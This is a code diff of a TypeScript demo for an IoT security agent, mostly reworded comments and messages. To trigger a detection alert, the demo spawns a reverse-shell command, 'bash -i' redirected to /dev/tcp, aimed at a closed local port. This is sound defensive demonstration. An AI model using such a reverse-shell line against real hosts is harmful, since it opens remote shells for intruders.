@@ -32,7 +32,7 @@ const MODULE = 'azureiotsecurity';
 const DIALECT = twinDialect();
 const desired = (settings: readonly [SettingId, Spelling][]) => DIALECT.write(new Map(settings));
 
-/** Short, so that events appear soon: the defaults send every 7 minutes and 5 hours. */
+/** Short frequencies, so that events appear soon: the defaults send every 7 minutes and 5 hours. */
 const FIRST_DESIRED = desired([
   ['highPriorityMessageFrequency', 'PT2S'],
   ['lowPriorityMessageFrequency', 'PT3S'],
@@ -44,11 +44,11 @@ const CHANGE = desired([['aggregation.ProcessCreate.enabled', false]]);
 
 const AGENT = fileURLToPath(new URL('../../agent/main.js', import.meta.url));
 
-/** After SIGTERM, the agent is killed after this time. */
+/** The agent is killed this long after SIGTERM. */
 const TIME_LIMIT = seconds(20);
 
 const WITHOUT_ROOT =
-  "You are not root, so the kernel's audit cannot be read: short-lived processes and connections are missed, and the programs of other users' processes and sockets are unknown. Run it as root to see them all.";
+  "You are not root, so kernel audit records cannot be read: short-lived processes and connections are missed, and the programs of other users' processes and sockets are unknown. Run the demo as root to see them.";
 
 export async function run(args: readonly string[], world: World): Promise<number> {
   const { values } = readArguments(args, { duration: { type: 'string' }, ...PAGE_OPTIONS });
@@ -108,8 +108,9 @@ async function show(hub: HubEmulator, { configFile, duration, page }: Show, worl
     'demo',
     `A local IoT Hub listens on localhost:${hub.port}; the agent connects to it over TLS as ${DEVICE}/${MODULE}.`,
   );
-  say('demo', 'This shows what the hub receives. Start programs in another terminal and watch them arrive.');
-  if (page !== undefined) say('demo', `Open ${page.address} to see the same in a browser, and to try things there.`);
+  say('demo', 'The messages that the hub receives appear below. Start programs in another terminal to see them.');
+  if (page !== undefined)
+    say('demo', `Open ${page.address} to see the same in a browser and to change settings there.`);
   if (process.getuid?.() !== 0) say('demo', WITHOUT_ROOT);
   const seen = showArrivals(hub, say);
   const agent = startAgent(configFile, say, world.environment);
@@ -129,7 +130,7 @@ async function show(hub: HubEmulator, { configFile, duration, page }: Show, worl
 }
 
 /**
- * Generates events once the agent is connected, until `duration` is over, the agent has exited, or `stop` aborts.
+ * Generates events once the agent is connected, until `duration` has passed, the agent has exited, or `stop` aborts.
  */
 async function untilTheEnd(
   hub: HubEmulator,
@@ -161,7 +162,7 @@ async function untilTheEnd(
 }
 
 /**
- * Shows the agent's event counts, as `vakt status` does; also after Ctrl-C, which ends most demos.
+ * Shows the agent's event counts as `vakt status` does, even after Ctrl-C.
  */
 async function showDelivery(directory: string, say: Say): Promise<void> {
   const status = await askControlSocket(join(directory, 'control.sock'), '/status').catch(() => undefined);
@@ -201,16 +202,16 @@ function interesting(lines: readonly string[]): string[] {
   );
   const mirrored = relevant.filter((line) => line.startsWith(OBJECT));
   const healthy = relevant.flatMap((line) => /^securityAgent\.collectors\.(\w+)\.state = "on"$/.exec(line)?.[1] ?? []);
-  const others = relevant.filter((line) => !line.startsWith(OBJECT) && !line.endsWith('.state = "on"'));
+  const rest = relevant.filter((line) => !line.startsWith(OBJECT) && !line.endsWith('.state = "on"'));
   return [
-    ...others,
+    ...rest,
     ...(healthy.length > 0 ? [`securityAgent.collectors: on for ${healthy.join(', ')}`] : []),
     ...(mirrored.length > 5 ? [`${OBJECT}: ${mirrored.length} properties mirrored, defaults included`] : mirrored),
   ];
 }
 
 interface Agent {
-  /** Its exit status; `null` when a signal ended it, or it could not be started. */
+  /** Its exit status; `null` if it was killed by a signal or could not be started. */
   readonly ended: Promise<number | null>;
   /** Resolves when it has exited; kills it if necessary. */
   stop(): Promise<void>;
@@ -244,7 +245,7 @@ function startAgent(configFile: string, say: Say, environment: NodeJS.ProcessEnv
   };
 }
 
-/** Removes variables that would override the demo's configuration file, or lead to its hub through a proxy. */
+/** Removes variables that would override the demo's configuration file or direct its connections to a proxy. */
 const withoutSettings = (environment: NodeJS.ProcessEnv): NodeJS.ProcessEnv =>
   Object.fromEntries(Object.entries(environment).filter(([name]) => !/^(?:VAKT_.*|HTTPS_PROXY)$/i.test(name)));
 
@@ -257,16 +258,19 @@ function asText(line: string): string {
 }
 
 /**
- * Looks like a reverse shell, and is harmless: nothing listens on that port of this machine, so the shell ends at once. It
- * waits first, since without root the agent sees only what runs for a second.
+ * Looks like a reverse shell but is harmless: no process listens on that local port, so the shell exits immediately. It
+ * waits first, because without root the agent detects only processes that run for at least a second.
  */
 const LIKE_AN_ATTACK = 'sleep 2\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1';
 
-/** Starts programs, so that there are events even on an idle machine, and once what must raise an alert. */
+/** Starts programs, so that even an idle machine has events, and once a command that must raise an alert. */
 async function runPrograms(say: Say, signal: AbortSignal): Promise<void> {
   await systemClock.sleep(seconds(3), signal);
   if (!signal.aborted) {
-    say('demo', 'Ran what looks like a reverse shell, to a closed port of this machine: the agent raises an alert.');
+    say(
+      'demo',
+      'Ran a command that looks like a reverse shell, to a closed port of this machine: the agent raises an alert.',
+    );
     spawn('/bin/sh', ['-c', LIKE_AN_ATTACK], { stdio: 'ignore' }).on('error', () => {});
   }
   while (!signal.aborted) {
